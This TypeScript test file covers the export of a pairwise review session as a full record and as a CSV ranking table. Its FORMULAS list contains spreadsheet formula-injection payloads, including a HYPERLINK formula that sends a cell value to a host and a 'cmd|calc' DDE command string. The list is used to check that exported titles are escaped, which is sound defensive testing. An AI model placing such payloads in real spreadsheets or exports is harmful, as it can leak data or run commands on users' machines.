import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sql } from 'drizzle-orm';
import { LOCAL_REVIEWER } from '#lib/domain/reviewer.ts';
import type { Answer } from '#lib/domain/session.ts';
import type { QuestionView, SessionView } from '#lib/domain/session-view.ts';
import { Workbench } from '../../../tests/support/services.ts';
import {
	answering,
	settingsOf,
	tasteOf,
	worksToRank,
	worthByPlace
} from '../../../tests/support/sessions.ts';
import type { Services } from './services.ts';

/** What a spreadsheet must read as it is. */
const PLAIN = [
	'Plain',
	'One, two',
	'He said “no” and "yes"',
	'Two\nlines',
	'Two\r\nlines',
	'"',
	' =1+1 after a space',
	'-12.5',
	"it's",
	'מי מוציא 🐕?',
	''
];
/** What a spreadsheet would work out. */
const FORMULAS = [
	'=HYPERLINK("http://example.com?"&A1,"Click")',
	'+1+1',
	'-1+cmd|calc',
	'@SUM(A1:A9)',
	'\t=1+1',
	'\r=1+1',
	'\n=1+1',
	'＝1+1'
];
const TITLES = [...PLAIN, ...FORMULAS];

const bench = new Workbench();
let services: Services;
let briefId: string;
let ids: string[];
let session: SessionView;

beforeAll(async () => {
	services = await bench.services({ capture: false });
	({ briefId, ids } = await worksToRank(services, TITLES.length));
	for (const [at, title] of TITLES.entries())
		services.database.db.run(sql`UPDATE variants SET title = ${title} WHERE id = ${ids[at] ?? ''}`);
	const criteria = ['detail', 'overall'];
	session = services.sessions.create(
		briefId,
		settingsOf({ criteria, mode: 'mixed' }),
		LOCAL_REVIEWER
	);
});
afterAll(() => bench.closeAll());

/** One reviewer answers so many questions; what they sent. */
function play(judge: (question: QuestionView) => Answer, actions: number) {
	const reviewer = services.sessions.join(session.id, { name: 'Ada', role: 'design' });
	let sitting = services.sessions.sitting(session.id, reviewer.id);
	const sent = Array.from({ length: actions }, () => {
		const comparison = answering(sitting, judge);
		sitting = services.sessions.answer(session.id, comparison);
		return comparison;
	});
	return { reviewer, sent };
}

/** Lines of cells, by RFC 4180. */
function readCsv(text: string): string[][] {
	const lines: string[][] = [[]];
	const cells = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
	for (let found = cells.exec(text); found !== null; found = cells.exec(text)) {
		const [, quoted, plain = '', end] = found;
		lines.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain);
		if (end === '\r\n') lines.push([]);
		if (cells.lastIndex === text.length) return lines.slice(0, -1);
	}
	throw new Error(`This is no CSV from character ${cells.lastIndex}.`);
}

describe('a session as a file', () => {
	it('has every answer that counts, in the order in which they came, with why', async () => {
		const judge = tasteOf(worthByPlace(ids), 1);
		const { sent } = play(judge, 24);
		const skip = ({ kind, variants }: QuestionView): Answer => {
			const [left = '', right = ''] = variants.map(({ id }) => id);
			if (kind === 'pair') return { kind, left, right, says: 'skip' };
			return { kind, shown: variants.map(({ id }) => id), order: [] };
		};
		const skipped = play(skip, 2).sent;
		const withdrawn = play(judge, 5).reviewer;
		const [first, second, third] = sent;
		services.sessions.explain(first?.id ?? '', 'clear, "calm"');
		services.sessions.explain(third?.id ?? '', 'at first');
		services.sessions.explain(third?.id ?? '', 'in the end');
		services.sessions.retract(second?.id ?? '');
		services.sessions.withdraw(withdrawn.id, true);

		const file = await services.sessionExports.whole(session.id);
		const kept = [...sent.filter(({ id }) => id !== second?.id), ...skipped];
		expect(file.comparisons.map(({ id }) => id)).toEqual(kept.map(({ id }) => id));
		for (const [at, { reviewerId, criterion, answer, ms }] of kept.entries())
			expect(file.comparisons[at]).toMatchObject({ reviewerId, criterion, answer, ms });
		const reasons = new Map(file.comparisons.map(({ id, reason }) => [id, reason]));
		expect(reasons.get(first?.id ?? '')).toBe('clear, "calm"');
		expect(reasons.get(third?.id ?? '')).toBe('in the end');
		expect(reasons.get(kept.at(-1)?.id ?? '')).toBeNull();

		expect(file.session).toEqual(services.sessions.view(session.id));
		expect(file.session.answers).toBe(23);
		expect(file.rankings.map(({ criterion }) => criterion)).toEqual(['detail', 'overall']);
		// A skip is an answer, and says nothing.
		expect(file.rankings.reduce((sum, { comparisons }) => sum + comparisons, 0)).toBe(23);
		expect(JSON.parse(JSON.stringify(file))).toEqual(file);
	});

	it('tells of no model or provider before it is revealed', async () => {
		const { rankings } = await services.sessionExports.whole(session.id);
		expect(rankings.map(({ models }) => models)).toEqual([null, null]);
	});
});

describe('the standing as a table', () => {
	it('has a header, and a line for each criterion and work, best first', async () => {
		const { name, text } = await services.sessionExports.table(session.id);
		expect(name).toBe('Refund a payment standing.csv');
		const [header, ...lines] = readCsv(text);
		expect(header?.join()).toBe(
			'criterion,rank,rank_low,rank_high,number,title,variant_id,p_top_1,p_top_3,p_top_5,mean_logits,low_logits,high_logits'
		);
		expect(lines).toHaveLength(2 * TITLES.length);
		const { rankings } = await services.sessionExports.whole(session.id);
		const expected = rankings.flatMap(({ criterion, ratings }) =>
			ratings.map((rating) => [
				criterion,
				`${rating.rank}`,
				`${rating.rankLow}`,
				`${rating.rankHigh}`,
				`${ids.indexOf(rating.variantId) + 1}`,
				rating.variantId
			])
		);
		expect(lines.map((line) => [...line.slice(0, 5), line[6]])).toEqual(expected);
		for (const [at, line] of lines.entries()) {
			const rating = rankings[at < TITLES.length ? 0 : 1]?.ratings[at % TITLES.length];
			for (const cell of line.slice(7)) expect(cell).toMatch(/^-?\d+\.\d{4}$/);
			expect(Number(line[7])).toBeCloseTo(rating?.pTop1 ?? NaN, 4);
			expect(Number(line[10])).toBeCloseTo(rating?.mean ?? NaN, 4);
		}
		const ranks = lines.map(([, rank]) => Number(rank));
		const inOrder = TITLES.map((_, place) => place + 1);
		expect(ranks).toEqual([...inOrder, ...inOrder]);
	});

	it('says every title as it is, and none as a formula', async () => {
		const lines = readCsv((await services.sessionExports.table(session.id)).text).slice(1);
		const titleOf = new Map(lines.map((line) => [line[6], line[5]]));
		const told = ids.map((id) => titleOf.get(id));
		expect(told.slice(0, PLAIN.length)).toEqual(PLAIN);
		expect(told.slice(PLAIN.length)).toEqual(FORMULAS.map((title) => `'${title}`));
		for (const cell of lines.flat())
			expect(cell).not.toMatch(/^(?!-?\d+(\.\d+)?$)[=+\-@\t\r\n＝＋－＠]/);
	});

	it('leaves out a work that is gone', async () => {
		const gone = ids[2] ?? '';
		services.database.db.run(sql`UPDATE variants SET status = 'failed' WHERE id = ${gone}`);
		const { text } = await services.sessionExports.table(session.id);
		expect(text).not.toContain(gone);
		expect(readCsv(text)).toHaveLength(1 + 2 * (TITLES.length - 1));
	});
});
